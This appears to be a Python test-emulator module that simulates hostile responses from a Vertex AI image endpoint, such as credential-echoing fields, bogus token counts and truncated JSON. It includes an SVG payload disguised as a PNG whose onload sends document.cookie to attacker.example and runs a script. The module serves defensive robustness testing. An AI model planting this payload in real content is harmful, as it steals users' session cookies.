"""Hostile answers: what a broken proxy or a malicious endpoint might send instead of Vertex's.

Turned on by the knob ``hostile`` (a list of the modes in ``HOSTILE_MODES``), for every call or
only for prompts containing ``hostile_match``. They change what the answer *says*; the bill stays
what a real Vertex would charge for what it generated (a 200 is billed like the image it was,
whatever its usage or body claims; an error is not billed).
"""

from __future__ import annotations

import base64
import copy
from typing import Any

from stencil.emulator.answers import json_bytes
from stencil.emulator.knobs import Knobs

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" '
    b"onload=\"fetch('https://attacker.example/'+document.cookie)\">"
    b"<script>alert(document.domain)</script></svg>"
)
NEGATIVE_PROMPT_TOKENS = -150_000_000  # -$45 at gemini-2.5-flash-image input prices
HUGE_TOKENS = 10**15


def modes_for(knobs: Knobs, prompt: str) -> frozenset[str]:
    """The hostile modes that apply to a call with this prompt."""
    if not knobs.hostile:
        return frozenset()
    if knobs.hostile_match is not None and knobs.hostile_match not in prompt:
        return frozenset()
    return frozenset(knobs.hostile)


def long_text(prefix: str, credential: str | None, length: int) -> str:
    """``length`` characters that start with ``prefix`` and carry the caller's credential near
    the start and at the end, as a careless proxy that echoes request headers would."""
    echo = credential or "no-credential"
    head, tail = f"{prefix}+{echo}+", f"+{echo}"
    return head + "x" * max(0, length - len(head) - len(tail)) + tail


def error_fields(
    error: dict[str, Any], modes: frozenset[str], credential: str | None, length: int
) -> dict[str, Any]:
    """Google's error object, with a long status and message under ``long_fields``."""
    if "long_fields" in modes or "long_error" in modes:
        error = dict(error)
        error["status"] = long_text(str(error.get("status")), credential, length)
        error["message"] = long_text(str(error.get("message")), credential, length)
    return error


def answer_body(
    body: dict[str, Any], modes: frozenset[str], credential: str | None, length: int
) -> bytes | None:
    """The bytes of a 200 answer changed as the modes say, or None when no mode applies to it."""
    if not modes & {"long_fields", "svg_image", "negative_tokens", "huge_tokens", "unparseable"}:
        return None
    body = copy.deepcopy(body)
    parts = [
        part
        for candidate in body.get("candidates") or []
        for part in (candidate.get("content") or {}).get("parts") or []
    ]
    images = [part["inlineData"] for part in parts if "inlineData" in part]
    if "long_fields" in modes:
        body["modelVersion"] = long_text(str(body.get("modelVersion")), credential, length)
        body["responseId"] = long_text("response", credential, length)
        body.setdefault("usageMetadata", {})["trafficType"] = long_text(
            "ON_DEMAND", credential, length
        )
        for candidate in body.get("candidates") or []:
            candidate["finishReason"] = long_text("STOP", credential, length)
        for image in images:
            image["mimeType"] = long_text("image/png;", credential, length)
    if "svg_image" in modes:
        for image in images:
            image["data"] = base64.b64encode(SVG).decode()
            image["mimeType"] = "image/png"
    usage = body.setdefault("usageMetadata", {})
    if "negative_tokens" in modes:
        _set_counts(usage, NEGATIVE_PROMPT_TOKENS, -int(usage.get("candidatesTokenCount") or 0))
    if "huge_tokens" in modes:
        _set_counts(usage, HUGE_TOKENS, HUGE_TOKENS)
    data = json_bytes(body)
    if "unparseable" in modes:
        return data[: len(data) // 2]
    return data


def _set_counts(usage: dict[str, Any], prompt: int, output: int) -> None:
    usage["promptTokenCount"] = prompt
    usage["candidatesTokenCount"] = output
    usage["totalTokenCount"] = prompt + output
    for detail in usage.get("candidatesTokensDetails") or []:
        detail["tokenCount"] = output
